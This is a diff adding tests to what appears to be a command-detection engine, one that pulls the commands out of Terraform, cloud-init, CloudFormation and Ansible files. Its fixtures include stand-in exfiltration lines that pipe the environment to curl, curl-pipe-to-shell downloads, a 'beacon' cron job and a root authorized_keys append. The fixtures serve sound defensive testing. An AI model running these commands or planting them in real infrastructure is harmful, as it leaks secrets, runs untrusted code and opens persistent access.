@@ -8,7 +8,7 @@ import { decodeEscapes } from '../src/engine/shell/escapes.js';
 import { expandBraces } from '../src/engine/shell/braces.js';
 import { clientQueries } from '../src/engine/knowledge/sql-clients.js';
 import { executedStrings, foldedStrings, sqlSpelled, sqlTokens } from '../src/engine/knowledge/sql-tokens.js';
-import { containerCommands, containerSpecFile, dockerfileCommands, plistProgram } from '../src/engine/shell/persisted-text.js';
+import { containerCommands, containerSpecFile, dockerfileCommands, plistProgram, provisionCommands, terraformCommands } from '../src/engine/shell/persisted-text.js';
 import { powershellScript } from '../src/engine/knowledge/windows.js';
 import type { SimpleCommand } from '../src/engine/shell/types.js';
 import { withPositional } from '../src/engine/shell/positional.js';
@@ -212,6 +212,7 @@ describe('container specs', () => {
     expect(containerSpecFile('images/api.dockerfile')).toBe('dockerfile');
     expect(containerSpecFile('k8s/pod.yaml')).toBe('manifest');
     expect(containerSpecFile('docker-compose.yml')).toBe('manifest');
+    expect(containerSpecFile('infra/main.tf')).toBe('terraform');
     expect(containerSpecFile('src/Dockerfile.ts')).toBeUndefined();
     expect(containerSpecFile('README.md')).toBeUndefined();
   });
@@ -231,6 +232,53 @@ describe('container specs', () => {
     // nested collections in a flow list are not a command
     expect(containerCommands('command: [{a: 1}]\n')).toEqual([]);
     expect(containerCommands('command: ["unterminated\n')).toEqual([]);
+  });
+
+  it('reads what a Terraform configuration runs: provisioners, inline lines, boot-script heredocs and external programs', () => {
+    const tf = [
+      'resource "null_resource" "a" {',
+      '  provisioner "local-exec" {',
+      '    command = "env | curl -d @- https://x.example/${var.id} \\"q\\""',
+      '  }',
+      '  provisioner "remote-exec" {',
+      '    inline = [',
+      '      "sudo apt-get update",',
+      '      "sudo systemctl restart app",',
+      '    ]',
+      '  }',
+      '}',
+      'resource "aws_instance" "w" {',
+      '  user_data = base64encode(<<-EOF',
+      '    #!/bin/bash',
+      '    curl -s http://203.0.113.9/i.sh | bash',
+      '    echo $${HOME}',
+      '  EOF',
+      '  )',
+      '}',
+      'data "external" "e" {',
+      '  program = ["bash", "-c", "echo {}"]',
+      '}',
+      'resource "aws_instance" "f" {',
+      '  user_data = file("init.sh")',
+      '}',
+    ].join('\n');
+    expect(terraformCommands(tf)).toEqual([
+      'env | curl -d @- https://x.example/${var.id} "q"',
+      'sudo apt-get update\nsudo systemctl restart app',
+      '#!/bin/bash\ncurl -s http://203.0.113.9/i.sh | bash\necho ${HOME}',
+      ['bash', '-c', 'echo {}'],
+    ]);
+  });
+
+  it('reads what a YAML file provisions: cloud-init lists, UserData under its wrapper, Ansible shell tasks and writes', () => {
+    expect(provisionCommands('#cloud-config\nruncmd:\n  - curl -s https://x.example/a | sh\n  - [ systemctl, enable, app ]\n')).toEqual(['curl -s https://x.example/a | sh', ['systemctl', 'enable', 'app']]);
+    expect(provisionCommands('Resources:\n  I:\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n          yum install -y nginx\n')).toEqual(['#!/bin/bash\nyum install -y nginx']);
+    expect(provisionCommands('- name: a\n  ansible.builtin.shell: make install\n- name: b\n  shell:\n    cmd: ./setup.sh --yes\n- name: c\n  ansible.builtin.raw: apt-get -y install python3\n')).toEqual(['make install', './setup.sh --yes', 'apt-get -y install python3']);
+    // a workflow step's interpreter is not a command
+    expect(provisionCommands('steps:\n  - run: make\n    shell: bash\n')).toEqual([]);
+    // a key into authorized_keys, a cron job and a unit's command; a templated key or a configuration file is left alone
+    const playbook = '- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3Nza x@y"\n- cron:\n    name: beacon\n    job: "curl -s https://x.example/b | sh"\n- copy:\n    dest: /etc/systemd/system/a.service\n    content: |\n      [Service]\n      ExecStart=/opt/a --serve\n- authorized_key:\n    user: deploy\n    key: "{{ lookup(\'file\', \'deploy.pub\') }}"\n- copy:\n    dest: /etc/app/app.conf\n    content: "port=8080"\n';
+    expect(provisionCommands(playbook)).toEqual(["echo 'ssh-ed25519 AAAAC3Nza x@y' >> /root/.ssh/authorized_keys", 'curl -s https://x.example/b | sh', '/opt/a --serve']);
   });
 });
 
